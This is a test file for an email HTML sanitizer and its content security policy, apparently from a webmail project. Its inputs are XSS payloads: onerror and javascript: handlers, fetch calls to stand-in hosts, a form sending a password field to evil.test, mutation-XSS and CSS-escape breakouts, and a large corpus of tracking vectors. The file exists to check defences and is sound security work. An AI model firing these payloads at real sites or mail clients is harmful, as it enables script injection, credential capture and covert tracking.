import { describe, expect, it } from 'vitest';
import type { Attachment } from '@mailroom/shared';
import { buildMessageDocument, messageCsp, sanitizeEmailHtml } from './sanitize.js';

const ORIGIN = 'https://mail.example.test';

function clean(html: string, allowRemote = false, attachments: Attachment[] = []) {
  const result = sanitizeEmailHtml(html, { allowRemote, attachments, origin: ORIGIN });
  return { ...result, html: result.body.innerHTML, q: (sel: string) => result.body.querySelector(sel), qa: (sel: string) => result.body.querySelectorAll(sel) };
}

const logo: Attachment = {
  id: 'att-1',
  filename: 'logo.png',
  contentType: 'image/png',
  size: 1234,
  contentId: 'logo@example.test',
  inline: true,
  url: '/api/mailboxes/INBOX/messages/7/attachments/att-1',
};

describe('sanitizeEmailHtml: active content', () => {
  it('removes scripts, event handlers and javascript: URLs', () => {
    const r = clean(
      '<p onclick="alert(1)">hi</p><script>alert(1)</script><img src="x" onerror="alert(1)">' +
        '<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a><a href="data:text/html,<script>alert(1)</script>">c</a>',
    );
    expect(r.html).not.toMatch(/script|onclick|onerror|javascript:|data:text/i);
    expect(r.q('p')?.textContent).toBe('hi');
    for (const a of Array.from(r.qa('a'))) {
      expect(a.hasAttribute('href')).toBe(false);
      expect(a.hasAttribute('target')).toBe(false);
    }
  });

  it('removes forms, inputs, buttons, meta, base, link, iframes, objects and embeds', () => {
    const r = clean(
      '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">' +
        '<link rel="stylesheet" href="https://evil.test/x.css">' +
        '<form action="https://evil.test/steal"><input name="password"><textarea></textarea><select><option>1</option></select><button>Go</button></form>' +
        '<iframe src="https://evil.test"></iframe><object data="x.swf"></object><embed src="x.swf"><frameset><frame src="x"></frameset><p>kept</p>',
    );
    for (const tag of ['base', 'meta', 'link', 'form', 'input', 'textarea', 'select', 'button', 'iframe', 'object', 'embed', 'frame']) {
      expect(r.q(tag), tag).toBeNull();
    }
    expect(r.html).not.toContain('evil.test');
    expect(r.q('p')?.textContent).toBe('kept');
  });

  it('removes SVG animation that could rewrite attributes', () => {
    const r = clean(
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="href" to="javascript:alert(1)"/>' +
        '<animateMotion dur="1s"/><animateTransform attributeName="transform"/><text>x</text></a></svg>',
    );
    expect(r.html).not.toMatch(/animate|<set|javascript/i);
    expect(r.q('svg')).not.toBeNull();
  });

  it('drops our own marker attributes when the mail supplies them', () => {
    const r = clean('<img data-mr-src="https://evil.test/x.png" alt="x">');
    expect(r.q('img')?.getAttribute('data-mr-src')).toBeNull();
  });
});

describe('sanitizeEmailHtml: links', () => {
  it('forces http, https and mailto links to a new tab without opener or referrer', () => {
    const r = clean('<a href="https://example.org/a" target="_self">a</a><a href="http://example.org">b</a><a href="mailto:bob@example.org">c</a>');
    const links = Array.from(r.qa('a'));
    expect(links).toHaveLength(3);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(links[0]?.getAttribute('href')).toBe('https://example.org/a');
  });

  it('removes links with other schemes or relative targets', () => {
    const r = clean('<a href="ftp://x">a</a><a href="/api/session">b</a><a href="vbscript:x">c</a><a href="tel:123">d</a>');
    for (const a of Array.from(r.qa('a'))) expect(a.hasAttribute('href')).toBe(false);
  });
});

describe('sanitizeEmailHtml: remote content', () => {
  const remote =
    '<img src="https://tracker.test/p.gif" srcset="https://tracker.test/a.png 1x, https://tracker.test/b.png 2x" alt="pixel">' +
    '<table background="http://tracker.test/bg.png"><tr><td background="//tracker.test/td.png">x</td></tr></table>' +
    '<video poster="https://tracker.test/poster.png" src="https://tracker.test/v.mp4"></video>' +
    '<div style="background-image: url(&quot;https://tracker.test/css.png&quot;); color: red">s</div>' +
    '<div style="background: image-set(\'https://tracker.test/set.png\' 1x)">t</div>' +
    '<style>@import url(https://tracker.test/i.css); body { background: url(https://tracker.test/body.png) } .x { background: u\\72l(https://tracker.test/esc.png) }</style>';

  it('blocks every remote reference and reports it', () => {
    const r = clean(remote);
    expect(r.blockedRemote).toBe(true);
    // Nothing that the browser would fetch still points at the tracker.
    const fetchable = Array.from(r.body.querySelectorAll('*')).flatMap((el) =>
      ['src', 'srcset', 'background', 'poster', 'style', 'href'].map((a) => el.getAttribute(a) ?? ''),
    );
    expect(fetchable.join(' ')).not.toContain('tracker.test');
    expect(r.q('style')?.textContent).not.toContain('tracker.test');
    // The references are parked in data-mr-* attributes, and the rest of the markup survives.
    const img = r.q('img');
    expect(img?.getAttribute('data-mr-src')).toBe('https://tracker.test/p.gif');
    expect(img?.getAttribute('data-mr-srcset')).toContain('https://tracker.test/a.png');
    expect(r.q('table')?.getAttribute('data-mr-background')).toBe('http://tracker.test/bg.png');
    expect(r.q('video')?.getAttribute('data-mr-poster')).toBe('https://tracker.test/poster.png');
    expect(r.q('div')?.getAttribute('style')).toContain('color: red');
    expect(img?.getAttribute('alt')).toBe('pixel');
  });

  it('restores remote references only when remote content is allowed', () => {
    const r = clean(remote, true);
    expect(r.blockedRemote).toBe(false);
    const img = r.q('img');
    expect(img?.getAttribute('src')).toBe('https://tracker.test/p.gif');
    expect(img?.getAttribute('srcset')).toBe('https://tracker.test/a.png 1x, https://tracker.test/b.png 2x');
    expect(img?.hasAttribute('data-mr-src')).toBe(false);
    expect(r.q('table')?.getAttribute('background')).toBe('http://tracker.test/bg.png');
    expect(r.q('td')?.getAttribute('background')).toBe('https://tracker.test/td.png');
    expect(r.q('video')?.getAttribute('poster')).toBe('https://tracker.test/poster.png');
    expect(r.q('div')?.getAttribute('style')).toContain('https://tracker.test/css.png');
    expect(r.q('style')?.textContent).toContain('https://tracker.test/body.png');
    // @import stays removed even then.
    expect(r.q('style')?.textContent).not.toContain('i.css');
  });

  it('never lets relative or exotic URLs load, even when remote content is allowed', () => {
    const r = clean('<img src="/api/mailboxes/INBOX/messages/1"><div style="background:url(/api/session)">x</div>', true);
    expect(r.q('img')?.hasAttribute('src')).toBe(false);
    expect(r.q('div')?.getAttribute('style')).not.toContain('/api/');
  });

  it('keeps inline data: images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const r = clean(`<img src="${png}">`);
    expect(r.q('img')?.getAttribute('src')).toBe(png);
    expect(r.blockedRemote).toBe(false);
  });

  it('cannot break out of <style> through CSS escapes', () => {
    const r = clean('<style>p { color: red } \\3c /style\\3e \\3c img src=x onerror=alert(1)\\3e </style><p>x</p>');
    expect(r.q('img')).toBeNull();
    const doc = buildMessageDocument('<style>\\3c /style\\3e \\3c img src=x onerror=alert(1)\\3e </style>', { allowRemote: false, origin: ORIGIN });
    const reparsed = new DOMParser().parseFromString(doc.srcdoc, 'text/html');
    expect(reparsed.querySelector('img')).toBeNull();
    expect(reparsed.querySelectorAll('[onerror]')).toHaveLength(0);
  });
});

describe('sanitizeEmailHtml: cid references', () => {
  it('maps cid: to the attachment URL and reports the content ids used', () => {
    const r = clean('<img src="cid:logo@example.test"><div style="background:url(cid:logo@example.test)">x</div><img src="cid:missing@x">', false, [logo]);
    const imgs = Array.from(r.qa('img'));
    expect(imgs[0]?.getAttribute('src')).toBe(`${ORIGIN}${logo.url}`);
    expect(imgs[1]?.hasAttribute('src')).toBe(false);
    expect(r.q('div')?.getAttribute('style')).toContain(`${ORIGIN}${logo.url}`);
    expect(r.usedContentIds).toEqual(new Set(['logo@example.test']));
    expect(r.blockedRemote).toBe(false);
  });
});

describe('sanitizeEmailHtml: more remote references', () => {
  it('blocks url() in SVG presentation attributes and remote SVG images', () => {
    const r = clean('<svg><rect fill="url(https://tracker.test/p.svg#g)" filter="url(#local)"></rect><image href="https://tracker.test/i.png"></image></svg>');
    expect(r.html).not.toContain('tracker.test/p.svg');
    expect(r.q('image')?.hasAttribute('href')).toBe(false);
    expect(r.q('image')?.getAttribute('data-mr-href')).toBe('https://tracker.test/i.png');
    expect(r.blockedRemote).toBe(true);
  });

  it('uses images loaded by the app for cid: references', () => {
    const data = 'data:image/png;base64,iVBORw0KGgo=';
    const r = sanitizeEmailHtml('<img src="cid:logo@example.test">', {
      allowRemote: false,
      attachments: [logo],
      inlineImages: new Map([['logo@example.test', data]]),
      origin: ORIGIN,
    });
    expect(r.body.querySelector('img')?.getAttribute('src')).toBe(data);
  });

  it('blocks protocol-relative and upper-case remote URLs, and image-set() with bare strings', () => {
    const r = clean('<img src="//tracker.test/a.gif"><img src="HTTPS://TRACKER.TEST/B.GIF"><p style="background-image: -webkit-image-set(\'https://tracker.test/c.png\' 1x)">x</p>');
    expect(r.html.toLowerCase()).not.toMatch(/\s(src|style)="[^"]*tracker\.test/);
    expect(r.qa('img[data-mr-src]')).toHaveLength(2);
  });
});

describe('buildMessageDocument', () => {
  it('wraps the content in a document with its own CSP', () => {
    const doc = buildMessageDocument('<p>Hello</p>', { allowRemote: false, origin: ORIGIN });
    const parsed = new DOMParser().parseFromString(doc.srcdoc, 'text/html');
    const meta = parsed.head.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(meta?.getAttribute('content')).toBe(messageCsp(ORIGIN, false));
    expect(parsed.body.querySelector('p')?.textContent).toBe('Hello');
    expect(doc.srcdoc.startsWith('<!DOCTYPE html>')).toBe(true);
  });

  it('allows remote images in the CSP only when remote content is allowed', () => {
    expect(messageCsp(ORIGIN, false)).toBe(
      `default-src 'none'; img-src data: ${ORIGIN}/api/; style-src 'unsafe-inline'; font-src data:; form-action 'none'; base-uri 'none'`,
    );
    expect(messageCsp(ORIGIN, true)).toContain(`img-src data: ${ORIGIN}/api/ https: http:`);
  });

  it('ignores <html>, <head> and <body> of the mail but keeps its <style>', () => {
    const doc = buildMessageDocument(
      '<html><head><meta http-equiv="refresh" content="0"><style>p{color:blue}</style></head><body onload="alert(1)"><p>x</p></body></html>',
      { allowRemote: false, origin: ORIGIN },
    );
    const parsed = new DOMParser().parseFromString(doc.srcdoc, 'text/html');
    expect(parsed.body.hasAttribute('onload')).toBe(false);
    expect(parsed.querySelectorAll('meta[http-equiv="refresh"]')).toHaveLength(0);
    expect(parsed.body.querySelector('style')?.textContent).toContain('color:blue');
  });
});

// Tracking and injection vectors (also run in real Chromium during development: with remote content
// blocked, none of them caused a request or a dialog).
const TRACKING_VECTORS = [
  `<img src=https://t.invalid/1>`, `<img srcset="https://t.invalid/1b 1x">`, `<picture><source srcset=https://t.invalid/2><img></picture>`,
  `<video poster=https://t.invalid/3 src=https://t.invalid/3b></video>`, `<audio src=https://t.invalid/4 autoplay></audio>`,
  `<table background=https://t.invalid/5><tr><td>x</td></tr></table>`, `<div style="background:url(https://t.invalid/6)">x</div>`,
  `<style>@import 'https://t.invalid/7';</style>`, `<style>@font-face{font-family:x;src:url(https://t.invalid/8)} p{font-family:x}</style><p>x</p>`,
  `<style>body{background:image-set("https://t.invalid/9" 1x)}</style>`, `<svg><image href=https://t.invalid/10 width=10 height=10 /></svg>`,
  `<svg><rect width=10 height=10 fill="url(https://t.invalid/11#a)"/></svg>`, `<link rel=stylesheet href=https://t.invalid/12>`,
  `<meta http-equiv=refresh content="0;url=https://t.invalid/13">`, `<iframe src=https://t.invalid/14></iframe>`, `<object data=https://t.invalid/15></object>`,
  `<embed src=https://t.invalid/16>`, `<input type=image src=https://t.invalid/17>`, `<body background=https://t.invalid/18>x</body>`,
  `<div style="background:u\\72l(https://t.invalid/19)">x</div>`, `<style>div{background:\\75rl(https://t.invalid/20)}</style><div>a</div>`,
  `<svg><filter id=f><feImage href=https://t.invalid/21 /></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<video><source src=https://t.invalid/22></video>`, `<video><track src=https://t.invalid/23 default></video>`,
  `<img src=x onerror="fetch('https://t.invalid/24')">`, `<script>fetch('https://t.invalid/25')</script>`, `<img src="//t.invalid/26">`,
  `<base href="https://t.invalid/27/"><img src="a.png">`, `<form action=https://t.invalid/28><button>go</button></form>`,
  `<svg><a><animate attributeName=href values=https://t.invalid/29 /><text y=10>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=https://t.invalid/30 onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=https://t.invalid/31 onerror=alert(1)>"></noscript>`,
  `<style>*{cursor:url(https://t.invalid/32),auto}</style>x`, `<div style="list-style-image:url(https://t.invalid/33)"><li>x</li></div>`,
  `<div style="border-image: url(https://t.invalid/34) 30; border:10px solid">x</div>`, `<div style="mask-image:url(https://t.invalid/35)">x</div>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://t.invalid/36'/></svg>">`,
  `<svg><style>rect{fill:url(https://t.invalid/37)}</style><rect width=9 height=9 /></svg>`,
  `<div style="background:url('https://t.invalid/38')">x</div><div style='background:url("https://t.invalid/39")'>x</div>`,
  `<style>p{background:url(https://t.invalid/40</style><p>x</p>`, `<style>/**/@im/**/port url(https://t.invalid/41);</style>`,
  `<style>@\\69mport url(https://t.invalid/42);</style>`, `<img src="https://t.invalid/43"/ onerror=alert(1)>`,
  `<a href="javascript:fetch('https://t.invalid/44')" id=l>click</a>`, `<details open ontoggle="fetch('https://t.invalid/45')">x</details>`,
  `<svg><use href="https://t.invalid/46#x"/></svg>`, `<xmp><img src=https://t.invalid/47></xmp>`,
  `<template><img src=https://t.invalid/48></template>`, `<img src="https&#58;//t.invalid/49">`, `<img src="ht\ttps://t.invalid/50">`,
];

describe('sanitizeEmailHtml: vector corpus', () => {
  it.each(TRACKING_VECTORS.map((v, i) => [i, v] as const))('vector %i leaves no live remote reference or script', (_i, vector) => {
    const doc = buildMessageDocument(vector, { allowRemote: false, origin: ORIGIN });
    const parsed = new DOMParser().parseFromString(doc.srcdoc, 'text/html');
    for (const el of Array.from(parsed.body.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) {
        if (attr.name.startsWith('data-mr-')) continue;
        expect(attr.value, `${el.localName}[${attr.name}]`).not.toMatch(/t\.invalid/);
        expect(attr.name.startsWith('on'), `${el.localName}[${attr.name}]`).toBe(false);
      }
      if (el.localName === 'style') expect(el.textContent).not.toMatch(/t\.invalid/);
      expect(['script', 'iframe', 'object', 'embed', 'form', 'input', 'base', 'meta', 'link', 'animate', 'use']).not.toContain(el.localName);
    }
  });
});
